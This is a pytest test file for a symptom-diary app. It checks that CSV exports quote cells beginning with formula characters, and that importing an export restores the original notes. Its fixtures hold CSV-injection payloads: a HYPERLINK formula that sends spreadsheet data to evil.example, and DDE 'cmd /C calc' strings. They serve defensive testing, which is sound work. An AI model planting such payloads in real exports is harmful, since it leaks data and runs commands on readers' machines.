"""Item 15 (CSV): exported cells never start a spreadsheet formula, and the export imports back.

Before the fix a note such as ``=HYPERLINK("https://evil.example/?"&A2,"see")`` went into
the episodes CSV as it was; a spreadsheet opening the export (a clinician's, say) runs
it. Following OWASP's guidance on CSV injection, a text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return now gets a leading ``'``; importing our
own export takes exactly that quote off again.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from myotriage.diary.formulas import TRIGGERS
from myotriage.diary.service import DiaryService
from tests.web.conftest import api_signup

#: Notes a person might write that a spreadsheet would run, and texts next to them that
#: must come back exactly (quotes a person typed themselves included).
NOTES = [
    '=HYPERLINK("https://evil.example/?"&A2,"see")',
    "+1 after coffee",
    "-2 hours of sleep",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by me",
    "''+two quotes",
    "'just a quote",
    "plain note",
]
TRIGGER_LISTS = ["=cmd|' /C calc'!A0;coffee", "-stress", "@home", "+salt;'=x"]


@pytest.fixture
def service(tmp_path: Any) -> Iterator[DiaryService]:
    diary = DiaryService(f"sqlite:///{tmp_path / 'diary.sqlite3'}")
    yield diary
    diary.close()


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _formula(cell: str) -> bool:
    return cell != "" and cell[0] in TRIGGERS


def _store(service: DiaryService, owner: str) -> None:
    for i, note in enumerate(NOTES):
        service.create_episode(
            owner=owner,
            location="loc_calf",
            start=f"2026-02-0{1 + i % 8}T08:00:00+01:00",
            notes=note,
            triggers=TRIGGER_LISTS[i % len(TRIGGER_LISTS)],
        )
    service.set_day(owner=owner, day="2026-02-01", caffeine_mg=300, sleep_h=6.5)


def test_no_exported_cell_starts_a_formula(service: DiaryService) -> None:
    _store(service, "me")
    for kind in ("csv", "days-csv"):
        cells = _cells(service.export(owner="me", format=kind))
        assert cells, kind
        starts = [cell for cell in cells if _formula(cell)]
        assert starts == [], (kind, starts)
    assert "'=HYPERLINK(" in service.export(owner="me", format="csv")


def test_importing_the_export_gives_back_the_same_diary(service: DiaryService) -> None:
    _store(service, "me")
    exported = service.export(owner="me", format="csv")
    service.import_episodes_csv(owner="copy", source=io.StringIO(exported, newline=""))
    assert service.export(owner="copy", format="csv") == exported

    def kept(owner: str) -> list[tuple[str, list[str]]]:
        rows = service.list_episodes(owner=owner, newest_first=False)
        return sorted((e.notes or "", e.triggers) for e in rows)

    assert kept("copy") == kept("me")
    assert {notes for notes, _ in kept("copy")} == set(NOTES)


def test_a_formula_typed_into_a_hand_made_file_is_kept_as_text(service: DiaryService) -> None:
    """A spreadsheet saves a text cell ``=x`` as ``=x``: the import keeps it, never strips it."""
    text = "start,location,notes\n2026-02-01T08:00:00+01:00,loc_calf,=1+1\n"
    service.import_episodes_csv(owner="me", source=io.StringIO(text, newline=""))
    assert service.list_episodes(owner="me")[0].notes == "=1+1"
    assert "'=1+1" in service.export(owner="me", format="csv")


def test_the_web_export_is_neutralised_too(client: Any) -> None:
    person = api_signup(client, "csv@example.org")
    body = {"location": "loc_calf", "notes": "=1+1", "triggers": ["-x"]}
    assert client.post("/api/v1/diary/episodes", headers=person, json=body).status_code == 201
    response = client.get("/api/v1/diary/export?format=csv", headers=person)
    assert response.status_code == 200
    assert [cell for cell in _cells(response.text) if _formula(cell)] == []
    assert "'=1+1" in response.text and "'-x" in response.text
